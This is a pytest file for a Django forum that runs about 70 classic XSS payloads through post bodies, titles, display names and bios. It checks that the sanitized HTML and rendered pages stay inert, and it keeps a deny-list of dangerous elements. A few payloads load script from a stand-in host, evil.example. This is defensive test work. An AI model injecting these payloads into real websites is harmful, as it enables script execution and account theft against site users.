"""A corpus of classic XSS vectors: none survives in stored HTML or on a page.

Each vector goes into a post body (Markdown, cleaned by bleach), a thread title,
a display name and a bio; the stored HTML and the rendered pages are checked.
"""

from html.parser import HTMLParser

import pytest
from django.urls import reverse
from markdown_it import MarkdownIt

from accounts.actions import update_profile
from forum import actions
from forum.markup import render_markdown
from tests.factories import UserFactory

VECTORS = [
    # Script elements, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="module">import("//evil.example")</script>',
    "<<script>alert(1);//<</script>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<script\x0d\x0atype='text/javascript'>alert(1);</script>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=# onmouseover=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<a href="#" onclick="alert(1)">click</a>',
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    # javascript:, vbscript: and data: URLs in Markdown links and images.
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](x" onerror="alert(1))',
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[a](javascript:alert(1) "title")',
    '[x](https://ok.example "a" onmouseover="alert(1)")',
    # Raw HTML links and frames.
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<math href="javascript:alert(1)">x</math>',
    # Style-based.
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    '<p style="x:expression(alert(1))">x</p>',
    # Entity-encoded and malformed tags.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href=&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)>x",
    "<div/onmouseover='alert(1)'>x",
    "`<script>alert(1)</script>` and\n\n```\n<script>alert(1)</script>\n```",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
]

BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
# Elements that must never come out of user input; the site's own templates use
# some of them (forms, inputs), so pages are checked for the vector's traces below.
FORBIDDEN_IN_POSTS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "form", "meta",
    "base", "link", "style", "svg", "math", "template", "noscript", "video",
    "audio", "input", "select", "textarea", "button", "details", "marquee",
    "keygen", "body", "div",
}  # fmt: skip


class ElementCollector(HTMLParser):
    """Collects every element and attribute a browser would build."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def elements_of(html: str):
    collector = ElementCollector()
    collector.feed(html)
    collector.close()
    return collector.elements


def assert_no_live_attributes(html: str) -> None:
    """No event handler, inline style or dangerous URL on any element."""
    for tag, attrs in elements_of(html):
        for name, value in attrs:
            assert not name.startswith("on"), f"<{tag} {name}> in {html!r}"
            assert name != "style", f"<{tag} style> in {html!r}"
            url = "".join((value or "").split()).lower()
            if name in {"href", "src", "action", "formaction", "data", "xlink:href"}:
                assert not url.startswith(BAD_SCHEMES), f"<{tag} {name}={value!r}>"
        assert tag != "script", f"<script> in {html!r}"


def assert_harmless(html: str) -> None:
    """Only allow-listed elements, and no live attribute, in stored post HTML."""
    assert_no_live_attributes(html)
    for tag, _attrs in elements_of(html):
        assert tag not in FORBIDDEN_IN_POSTS, f"<{tag}> in {html!r}"


def unsafe_render(source: str) -> str:
    """Markdown with raw HTML on and every link allowed: no sanitizer at all."""
    parser = MarkdownIt("commonmark", {"html": True})
    parser.validateLink = lambda url: True
    return parser.render(source)


def test_corpus_is_large_and_the_checker_bites():
    """60+ vectors; without the sanitizer, the checker rejects nearly all of them."""
    assert len(VECTORS) >= 60
    caught = 0
    for vector in VECTORS:
        try:
            assert_harmless(unsafe_render(vector))
        except AssertionError:
            caught += 1
    # The rest are escaped text or entity tricks that only a browser-grade parser
    # would unfold; bleach serializes canonical HTML, which this parser reads.
    assert caught >= len(VECTORS) - 10


@pytest.mark.parametrize("vector", VECTORS)
def test_markdown_renderer_neutralizes(vector):
    """render_markdown() output carries no live script, handler or bad URL."""
    assert_harmless(render_markdown(vector))


@pytest.mark.parametrize("vector", VECTORS)
def test_vector_in_body_title_and_display_name_is_inert_on_the_page(
    client, category, vector
):
    """Stored HTML is clean, and pages showing the vector stay script-free."""
    author = UserFactory(display_name=vector[:50])
    thread = actions.create_thread(
        category=category, author=author, title=vector[:200], body=vector
    )
    assert_harmless(thread.posts.get().body_html)
    for url in (
        thread.get_absolute_url(),
        category.get_absolute_url(),
        reverse("forum:board_index"),
        author.get_absolute_url(),
    ):
        response = client.get(url)
        assert response.status_code == 200
        assert_no_live_attributes(response.content.decode())


@pytest.mark.parametrize("vector", VECTORS)
def test_vector_in_a_bio_is_inert(client, db, vector):
    """Bios go through the same Markdown cleaning; the profile page stays inert."""
    member = UserFactory()
    update_profile(user=member, display_name=vector[:50], bio=vector)
    member.refresh_from_db()
    assert_harmless(member.bio_html)
    response = client.get(member.get_absolute_url())
    assert response.status_code == 200
    assert_no_live_attributes(response.content.decode())
